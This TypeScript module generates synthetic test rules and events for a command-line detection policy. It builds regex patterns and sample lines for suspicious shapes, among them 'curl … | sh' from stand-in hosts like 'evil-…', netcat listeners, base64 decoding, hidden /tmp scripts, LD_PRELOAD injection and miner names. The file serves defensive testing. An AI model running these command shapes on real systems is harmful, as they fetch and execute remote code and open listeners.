/** (d) Substrings of the command line, and for ten of them one expression. */
import type { Expr } from '../../vm/bundle/normal.ts';
import { batchSeed, Random } from '../../test/generators/random.ts';
import { affix, kind, normalForm, pattern, policy, rule, values } from './build.ts';
import { asking, type Family, type Question } from './family.ts';

const PROGRAMS = 'bash sh python3 perl curl wget nc openssl java node ruby php tar find sed awk ssh rsync'.split(' ');
const WORDS = (
  'update install config status report backup sync index build deploy start worker serve query export import ' +
  'release verify archive collect'
).split(' ');

/** An expression around one word, and a command line that it accepts. */
interface Shape {
  source(word: string): string;
  example(word: string, r: Random): string;
}

const SHAPES: readonly Shape[] = [
  { source: (w) => `.*curl.*${w}.*\\|.*sh.*`, example: (w, r) => `curl -s https://${w}/${r.below(1e6)} | sh -s` },
  { source: (w) => `.*--${w}.*=.*\\.onion.*`, example: (w, r) => `run --${w}-url=http://${r.below(1e6)}.onion/x` },
  { source: (w) => `(bash|sh|zsh) -[ic]+ .*${w}.*`, example: (w, r) => `bash -ic ${r.pick(WORDS)} ${w}` },
  { source: (w) => `.*nc( -[a-z]+)* ${w} [0-9]{1,5}.*`, example: (w, r) => `nc -l -v ${w} ${r.below(65536)}` },
  { source: (w) => `.*${w}.*base64.*-d.*`, example: (w, r) => `echo ${w}${r.below(1e6)} | base64 -d` },
  { source: (w) => `.*/tmp/\\.${w}[0-9a-f]{4,8}( .*)?`, example: (w, r) => `sh /tmp/.${w}${1000 + r.below(9000)} go` },
  { source: (w) => `.*LD_PRELOAD=[^ ]*${w}.*`, example: (w, r) => `env LD_PRELOAD=/tmp/lib${w}.so ${r.pick(WORDS)}` },
  {
    source: (w) => `python[23]?(\\.[0-9]+)? -c .*${w}.*`,
    example: (w, r) => `python3 -c 'import ${w}; ${r.below(1e6)}'`,
  },
];

/** Of eleven rules one is an expression, at this place. */
const EXPRESSION = 4;
const PERIOD = 11;

const EXEC = [kind('exec')];
const wordOf = (i: number, seed: number): string => {
  const r = new Random(batchSeed(seed, i));
  return `${r.pick(['xmrig', 'stratum', 'evil', 'kdevtmp', 'masscan', 'payload'])}-${i.toString(36)}${r.pick(['z', '.io', '_x'])}`;
};
const shapeOf = (i: number): Shape => SHAPES[Math.floor(i / PERIOD) % SHAPES.length];

const conditionOf = (i: number, seed: number): Expr => {
  const word = wordOf(i, seed);
  if (i % PERIOD === EXPRESSION)
    return pattern('matches', 'proc.cmdline', shapeOf(i).source(word.replaceAll('.', '\\.')));
  return affix('contains', 'proc.cmdline', `${word} `, i % 5 === 0);
};

const plain = (r: Random): string =>
  `/usr/bin/${r.pick(PROGRAMS)} ${r.pick(WORDS)} --${r.pick(WORDS)}=${r.below(1e6)} /srv/${r.pick(WORDS)}/${r.below(1e6)}`;

/** (d) */
export const commands = (n: number, seed: number): Family => {
  const rules = Array.from({ length: n }, (_, i) => rule(i, { kinds: EXEC, when: conditionOf(i, seed) }));
  const question = (line: string): Question => ({ kind: EXEC[0], values: values({ 'proc.cmdline': line }) });
  const hit = (i: number, r: Random): Question => {
    const word = wordOf(i, seed);
    if (i % PERIOD === EXPRESSION) return question(shapeOf(i).example(word, r));
    return question(`${plain(r)} ${word} ${r.pick(WORDS)}`);
  };
  const miss = (r: Random): Question => {
    if (r.chance(0.5)) return question(plain(r));
    // begins like what expressions ask for, with a word that none has
    return question(r.pick(SHAPES).example(r.pick(WORDS), r));
  };
  return { normal: normalForm(policy('commands', rules)), events: asking(n, seed, hit, miss) };
};
